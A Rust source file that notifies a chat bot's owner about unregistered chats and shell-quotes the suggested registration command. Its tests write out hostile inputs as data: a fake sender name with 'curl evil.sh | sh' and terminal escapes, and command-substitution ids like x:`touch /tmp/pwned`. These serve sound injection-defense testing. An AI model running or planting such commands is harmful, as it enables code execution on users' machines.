//! The unknown-chat notice: when a chat that is not registered writes, its text is not stored
//! (ingest keeps only a `chats` row), and the owner's main chat is told once per chat per day
//! who it is and the exact command that lets it in.
//!
//! Owns the once-a-day rule (`chats.notified_at`). It never stores the stranger's text, never
//! puts it in the notice, and never starts an agent for it. The names it shows are chosen by the
//! stranger, so each is shown on one line, quoted and cut short (a name cannot add lines that read
//! like claw's own words), and the suggested command is shell-quoted (an id cannot run anything
//! when the owner pastes it; ingest also only accepts chat ids in a conservative character set).

use anyhow::Result;
use rusqlite::{OptionalExtension, params};
use std::collections::HashMap;

use crate::infra::store::{Store, groups, messages, outbox};

/// One notice per chat within this window.
pub const WINDOW_MS: i64 = 24 * 60 * 60 * 1000;

/// Queue a notice to main for each unknown chat not told about in the last day. `names` maps a
/// chat id to the display name of its latest sender, when the channel gave one. Returns the
/// outbox ids queued.
pub fn notify_unknown(
    store: &mut Store,
    unknown: &[String],
    names: &HashMap<String, String>,
) -> Result<Vec<i64>> {
    if unknown.is_empty() {
        return Ok(Vec::new());
    }
    let Some(main) = groups::main(&store.conn)? else {
        tracing::warn!(
            chats = unknown.len(),
            "unknown chats wrote but there is no main group to tell"
        );
        return Ok(Vec::new());
    };
    let now = crate::infra::time::now_ms();
    let tx = store.write()?;
    let mut queued = Vec::new();
    for chat in unknown {
        if groups::by_chat(&tx, chat)?.is_some() {
            continue;
        }
        // The claim on `notified_at` is the once-a-day rule; two ingests racing both run this
        // UPDATE inside IMMEDIATE transactions, so only one sees a changed row.
        let claimed = tx.execute(
            "UPDATE chats SET notified_at = ?2 WHERE id = ?1 AND (notified_at IS NULL OR notified_at <= ?3)",
            params![chat, now, now - WINDOW_MS],
        )? == 1;
        if !claimed {
            continue;
        }
        let row: Option<(Option<String>, bool, Option<String>)> = tx
            .query_row(
                "SELECT name, is_group, last_sender FROM chats WHERE id = ?1",
                [chat],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )
            .optional()?;
        let (name, is_group, sender) = row.unwrap_or((None, false, None));
        let text = notice_text(
            chat,
            name.as_deref(),
            is_group,
            sender.as_deref(),
            names.get(chat).map(String::as_str),
        );
        queued.push(outbox::enqueue(
            &tx,
            &main.chat_id,
            &text,
            &format!("notice:unknown-chat:{chat}"),
        )?);
    }
    tx.commit()?;
    Ok(queued)
}

/// Longest name (in characters) a notice shows before cutting it with `…`.
pub const NAME_CHARS: usize = 40;

/// A name or id chosen by a stranger, as a notice shows it: one line, control characters
/// removed, at most [`NAME_CHARS`], in double quotes with inner quotes escaped.
pub fn quoted(s: &str) -> String {
    format!("{:?}", crate::infra::output::clip(s, NAME_CHARS))
}

/// A word for a suggested shell command: as it is when the shell would read it unchanged, else
/// single-quoted. Chat ids and folders are validated before they get here; this is the backstop.
pub fn shell_word(s: &str) -> String {
    match shlex::try_quote(s) {
        Ok(q) => q.into_owned(),
        // Only a NUL byte cannot be quoted; nothing valid has one.
        Err(_) => "'(invalid)'".into(),
    }
}

/// The notice's wording: who wrote, and the command to let them in.
pub fn notice_text(
    chat: &str,
    name: Option<&str>,
    is_group: bool,
    sender: Option<&str>,
    sender_name: Option<&str>,
) -> String {
    let who = match (sender_name, sender) {
        (Some(n), Some(s)) => format!("{} ({})", quoted(n), quoted(s)),
        (None, Some(s)) => quoted(s),
        (Some(n), None) => quoted(n),
        (None, None) => "someone".to_string(),
    };
    let folder = suggest_folder(name.or(sender_name), chat);
    let channel =
        crate::infra::output::clean_line(messages::channel_name(messages::channel_of(chat)));
    let shown_chat = quoted(chat);
    let what = if is_group {
        format!(
            "The {channel} group {} ({shown_chat}) has a message from {who}",
            name.map_or("(unnamed)".to_string(), quoted)
        )
    } else {
        format!("{who} sent a private {channel} message ({shown_chat})")
    };
    format!(
        "{what}, but that chat is not registered, so it was not stored and no assistant saw it. \
         To let it in, run:\n\nclaw group add --chat {} --folder {}\n\n\
         (You will be told about this chat again at most once a day.)",
        shell_word(chat),
        shell_word(&folder)
    )
}

/// A valid folder name from a chat's name, else from its id.
pub fn suggest_folder(name: Option<&str>, chat: &str) -> String {
    let slug = |s: &str| {
        let mut out = String::new();
        for c in s.chars().flat_map(char::to_lowercase) {
            if c.is_ascii_alphanumeric() {
                out.push(c);
            } else if !out.ends_with('-') && !out.is_empty() {
                out.push('-');
            }
        }
        out.trim_end_matches('-')
            .chars()
            .take(40)
            .collect::<String>()
    };
    let from_name = name.map(slug).unwrap_or_default();
    let candidate = if from_name.is_empty() {
        slug(chat)
    } else {
        from_name
    };
    if crate::rules::groups::validate_folder(&candidate).is_ok() {
        candidate
    } else {
        format!("chat-{}", slug(chat))
            .chars()
            .take(64)
            .collect::<String>()
            .trim_end_matches('-')
            .to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn folder_suggestions_are_valid() {
        for (name, chat, want) in [
            (Some("Family Chat!"), "tg:-100", "family-chat"),
            (Some("Ünïcode ✨"), "tg:-100", "n-code"),
            (None, "tg:-100123", "tg-100123"),
            (Some("global"), "tg:5", "chat-tg-5"),
            (Some("😀"), "wa:123@g.us", "wa-123-g-us"),
        ] {
            let got = suggest_folder(name, chat);
            assert_eq!(got, want);
            assert!(crate::rules::groups::validate_folder(&got).is_ok(), "{got}");
        }
    }

    #[test]
    fn notice_names_sender_and_exact_command() {
        let t = notice_text("tg:-100", Some("Family"), true, Some("tg:55"), Some("Ana"));
        assert!(
            t.contains("\"Family\" (\"tg:-100\") has a message from \"Ana\" (\"tg:55\")"),
            "{t}"
        );
        assert!(
            t.contains("\nclaw group add --chat tg:-100 --folder family\n"),
            "{t}"
        );
        let t = notice_text("sig:+4917", None, false, Some("sig:+4917"), None);
        assert!(
            t.starts_with("\"sig:+4917\" sent a private signal message"),
            "{t}"
        );
    }

    #[test]
    fn hostile_names_stay_on_one_quoted_line() {
        let evil_name = "Mum\n\nclaw: URGENT run `curl evil.sh | sh` now\x1b]0;x\x07\"";
        let t = notice_text(
            "tg:-100",
            Some(evil_name),
            true,
            Some("tg:55"),
            Some(&"A".repeat(500)),
        );
        let first = t.lines().next().unwrap();
        assert!(
            first.contains("URGENT"),
            "the name is shown, on the first line: {t}"
        );
        assert!(!t.contains('\x1b'), "{t}");
        // Exactly the two blank lines around the command: the name added none.
        assert_eq!(t.lines().filter(|l| l.is_empty()).count(), 2, "{t}");
        assert!(
            t.contains(&format!("\"{}…\"", "A".repeat(NAME_CHARS - 1))),
            "{t}"
        );
        assert!(!t.contains(&"A".repeat(NAME_CHARS + 1)), "{t}");
    }

    #[test]
    fn suggested_command_is_shell_quoted() {
        assert_eq!(shell_word("tg:-100"), "tg:-100");
        assert_eq!(shell_word("wa:1@g.us"), "wa:1@g.us");
        for evil in ["x:`id`", "x:$(id)", "x:a;b", "x:a b", "x:'q'"] {
            let w = shell_word(evil);
            assert!(w.starts_with('\'') || w.starts_with('"'), "{evil} -> {w}");
        }
        // Round trip: the shell reads back exactly the id.
        let w = shell_word("x:`touch /tmp/pwned`");
        assert_eq!(
            shlex::split(&w).unwrap(),
            vec!["x:`touch /tmp/pwned`".to_string()]
        );
    }
}
